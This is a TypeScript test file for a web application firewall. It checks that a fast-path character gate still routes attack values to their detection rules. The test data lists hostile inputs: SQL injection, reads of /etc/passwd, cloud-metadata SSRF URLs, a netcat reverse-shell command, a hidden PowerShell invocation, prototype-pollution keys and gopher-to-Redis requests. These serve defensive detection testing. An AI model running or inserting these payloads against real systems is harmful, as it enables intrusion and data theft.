import t from 'tap';
import { ALL_RULES } from '../../src/waf/rules/index.js';
import { PLAIN, PLAIN_TRIGGERS, plainGate } from '../../src/waf/plain-gate.js';
import { charMask } from '../../src/waf/chars.js';
import { RuleSet } from '../../src/waf/engine.js';
import { ids } from './helpers.js';
import { LiteralSet } from '../../src/waf/literal-set.js';
import { T_VALUE, T_NAME } from '../../src/waf/rule.js';

void t.test('every rule is classified for the plain fast path', async (t) => {
  const gate = plainGate(ALL_RULES.filter((r) => r.targets !== 0));
  t.not(gate, null, 'no rule is missing from plain-gate.ts (a missing one disables the fast path)');
  for (const id of PLAIN_TRIGGERS.keys()) t.ok(ALL_RULES.some((r) => r.id === id), `${id} exists`);
});

void t.test('plain attack values still reach their rules through the gate', async (t) => {
  const plainAttacks: [string, number, number][] = [
    ['1 union select password from users', 942160, T_VALUE], ['../../etc/passwd', 930110, T_VALUE], ['/etc/passwd', 930120, T_VALUE],
    ['http://localhost:8500/v1/agent/self', 934120, T_VALUE], ['http://2852039166/latest/meta-data/', 934110, T_VALUE],
    ['nc -e /bin/sh 10.0.0.1 4444', 932101, T_VALUE], ['powershell -nop -w hidden -enc SQBFAFgA', 932120, T_VALUE],
    ['1 OR true', 942150, T_VALUE], ['table_name FROM information_schema.tables', 942190, T_VALUE],
    ['class.module.classLoader.resources', 944120, T_NAME], ['constructor.prototype.x', 934130, T_NAME], ['__proto__', 934130, T_NAME],
    ['rO0ABXNyABFqYXZh', 944130, T_VALUE], ['gopher://127.0.0.1:6379/_x', 934122, T_VALUE], ['zip://uploads/a.jpg', 933110, T_VALUE],
    ['cmd.exe /c dir', 932170, T_VALUE], ['document.cookie', 941160, T_VALUE], ['JAVA.LANG.RUNTIME', 944100, T_VALUE],
  ];
  for (const [v, rule, bits] of plainAttacks) {
    t.equal(charMask(v) & ~PLAIN, 0, `${v} is plain`);
    t.ok(ids(v, bits).includes(rule), `${rule} still matches ${v}`);
  }
  t.ok(new RuleSet(1).rules.length > 50);
});

void t.test('the literal automaton finds overlapping literals in any ASCII case', async (t) => {
  const set = new LiteralSet(['he', 'she', 'hers', 'etc/', '\t']);
  for (const hit of ['ushers', 'SHE', 'x/ETC/y', 'a\tb', 'ahe']) t.ok(set.foundIn(hit), `found in ${JSON.stringify(hit)}`);
  for (const miss of ['', 'sh', 'etc', 'hxe', 'ÉTC/', 'h e']) t.notOk(set.foundIn(miss), `not in ${JSON.stringify(miss)}`);
  t.throws(() => new LiteralSet(['Upper']), /lower-case ASCII/);
});
